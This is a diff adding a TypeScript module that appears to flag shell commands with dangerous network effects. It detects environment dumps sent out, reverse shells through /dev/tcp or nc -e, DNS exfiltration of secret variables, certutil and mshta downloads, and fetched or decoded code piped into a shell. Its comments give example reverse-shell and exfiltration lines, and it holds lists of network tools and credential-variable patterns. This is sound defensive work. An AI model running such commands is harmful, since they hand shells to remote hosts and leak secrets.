@@ -1,0 +1,73 @@
+/** @module network effects: data sent out (the environment, secrets) and code fetched or decoded, then run. */
+import type { SimpleCommand } from "../types.ts";
+import type { Analysis } from "../flags.ts";
+import { effect, type Effect } from "./types.ts";
+
+export const NETWORK = new Set(["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "http", "https", "xh", "ftp", "sftp", "scp", "ssh", "aria2c", "fetch", "invoke-webrequest", "invoke-restmethod", "iwr", "irm"]);
+const FETCHERS = new Set(["curl", "wget", "fetch", "http", "https", "xh", "aria2c", "invoke-webrequest", "invoke-restmethod", "iwr", "irm"]);
+const RUNNER = /^(?:sh|bash|zsh|dash|ksh|ash|mksh|fish|python[0-9.]*|pypy[0-9.]*|perl|ruby|node|nodejs|bun|deno|php|eval|source|\.|pwsh|powershell|iex|invoke-expression)$/;
+/** Variable names that hold credentials. */
+export const SECRET_VAR = /\$\{?(?:env:)?[A-Za-z_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Za-z0-9_]*\}?/i;
+const ENV_DUMP = /\$\(\s*(?:env|printenv|set|export(?:\s+-p)?|declare\s+-[px]+|compgen\s+-v)\s*(?:\||\))|`\s*(?:env|printenv|set)\s*`/;
+
+function isEnvDump(cmd: SimpleCommand, an: Analysis): boolean {
+  const p = cmd.program;
+  if (p === "env" || p === "printenv") return an.positional.length === 0 || an.positional.some((w) => SECRET_VAR.test(`$${w}`));
+  if (p === "set" || p === "compgen") return cmd.argv.length === 1 || cmd.argv.includes("-v");
+  if (p === "export" || p === "declare" || p === "typeset") return cmd.argv.length === 1 || (cmd.argv.length === 2 && (cmd.argv[1] === "-p" || cmd.argv[1] === "-x" || cmd.argv[1] === "-px"));
+  return false;
+}
+
+const GENERATES = /^(?:tr|rev|python[0-9.]*|perl|ruby|node|awk|gawk|mawk|php|lua)$/;
+
+function decodes(cmd: SimpleCommand): boolean {
+  const p = cmd.program;
+  const a = cmd.argv;
+  if (p === "base64" || p === "base32" || p === "basenc" || p === "gbase64") return a.some((w) => w === "--decode" || /^-[a-zA-Z]*[dD]/.test(w));
+  if (p === "xxd") return a.some((w) => /^-[a-z]*r/.test(w));
+  if (p === "gzip" || p === "xz" || p === "bzip2" || p === "zstd" || p === "lzma") return a.some((w) => w === "--decompress" || /^-[a-zA-Z]*d/.test(w));
+  if (p === "gunzip" || p === "zcat" || p === "xzcat" || p === "bzcat" || p === "unxz" || p === "zstdcat" || p === "rev") return true;
+  if (p === "uudecode" || p === "b64decode") return true;
+  if (p === "openssl") return (a[1] === "base64" || a[1] === "enc") && a.includes("-d");
+  return false;
+}
+
+export function networkEffects(cmd: SimpleCommand, an: Analysis): Effect[] {
+  const out: Effect[] = [];
+  const p = cmd.program;
+  const runs = cmd.pipeTo.filter((x) => RUNNER.test(x));
+  if (isEnvDump(cmd, an)) {
+    const to = cmd.pipeTo.filter((x) => NETWORK.has(x));
+    if (to.length > 0) out.push(effect("network-send", `sends the environment (its secrets included) to ${to.join("/")}`, [], { data: "env" }));
+  }
+  // `bash -i >& /dev/tcp/host/port 0>&1`, `env > /dev/tcp/x/80`: bash's own network device.
+  const tcp = cmd.redirects.filter((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target));
+  if (tcp.length > 0) {
+    if (/^(?:sh|bash|zsh|dash|ksh)$/.test(p) || cmd.redirects.some((r) => r.op.includes("<") && /\/dev\/(?:tcp|udp)\//.test(r.target))) out.push(effect("remote-code", `hands a shell to a remote host (${tcp[0]?.target})`));
+    else if (isEnvDump(cmd, an)) out.push(effect("network-send", `sends the environment to ${tcp[0]?.target}`, [], { data: "env" }));
+  }
+  if ((p === "tee" || p === "cat") && an.positional.some((w) => /^\/dev\/(?:tcp|udp)\//.test(w)) && cmd.pipeFrom === "env") out.push(effect("network-send", "sends the environment over /dev/tcp", [], { data: "env" }));
+  // A shell whose input and output go to a network socket: `sh -i 2>&1 | nc host 4444`, `nc -e /bin/sh host`.
+  if (/^(?:sh|bash|zsh|dash|ksh)$/.test(p) && cmd.pipeTo.some((x) => x === "nc" || x === "ncat" || x === "netcat" || x === "socat" || x === "telnet")) out.push(effect("remote-code", "hands a shell to a remote host through a pipe"));
+  if ((p === "nc" || p === "ncat" || p === "netcat") && cmd.argv.some((w, k) => (w === "-e" || w === "-c" || w === "--exec" || w === "--sh-exec") && /sh$|cmd(?:\.exe)?$/.test(cmd.argv[k + 1] ?? ""))) out.push(effect("remote-code", "serves a shell to the network (nc -e)"));
+  if ((p === "regsvr32" || p === "mshta" || p === "rundll32" || p === "bitsadmin") && cmd.argv.some((w) => /https?:\/\/|javascript:|vbscript:/i.test(w))) out.push(effect("remote-code", `runs remote script code through ${p}`));
+  // DNS and ping carry data in the host name: `ping $(whoami)-$AWS_ACCESS_KEY_ID.x.io`.
+  if ((p === "ping" || p === "dig" || p === "nslookup" || p === "host" || p === "drill") && an.positional.some((w) => SECRET_VAR.test(w))) out.push(effect("network-send", "puts a secret variable into a DNS name", [], { data: "secret" }));
+  // Installing a package from a URL runs its install scripts.
+  if ((p === "npm" || p === "pnpm" || p === "yarn" || p === "bun") && /^(?:i|install|add)$/.test(an.sub ?? "") && an.positional.some((w) => /^https?:\/\//.test(w))) out.push(effect("remote-code", "installs (and runs the scripts of) a package from a URL"));
+  if (NETWORK.has(p)) {
+    const words = cmd.argv.slice(1);
+    if (words.some((w) => ENV_DUMP.test(w))) out.push(effect("network-send", "sends the environment over the network", [], { data: "env" }));
+    const urls = an.positional.filter((w) => /^[a-z][\w+.-]*:\/\/|^[\w.-]+\.[a-z]{2,}\//i.test(w) && SECRET_VAR.test(w));
+    if (urls.length > 0) out.push(effect("network-send", `puts a secret variable into a URL: ${urls.join(" ")}`, [], { data: "secret" }));
+  }
+  if (FETCHERS.has(p) && runs.length > 0) out.push(effect("remote-code", `runs code fetched from the network with ${runs.join("/")}`));
+  // certutil -urlcache downloads a file: the dropper of choice for a program run next.
+  if (p === "certutil" && cmd.argv.some((w) => /^[-/]urlcache$/i.test(w))) out.push(effect("remote-code", "downloads an executable with certutil -urlcache"));
+  if (decodes(cmd) && runs.length > 0) out.push(effect("decoded-code", `runs decoded data as code with ${runs.join("/")}`));
+  // Text made by a program and run by a shell: rot13 through tr, chr() in python, printf %c in awk.
+  else if (GENERATES.test(p) && runs.some((r) => /^(?:sh|bash|zsh|dash|ksh|ash|eval|source|\.)$/.test(r))) out.push(effect("decoded-code", `runs code generated by ${p} with ${runs.join("/")}`));
+  // `npx https://x.io/pkg.tgz`: a program run straight from a URL.
+  if (/^https?:\/\//.test(cmd.argv[0] ?? "")) out.push(effect("remote-code", `runs ${cmd.argv[0]} from the network`));
+  return out;
+}
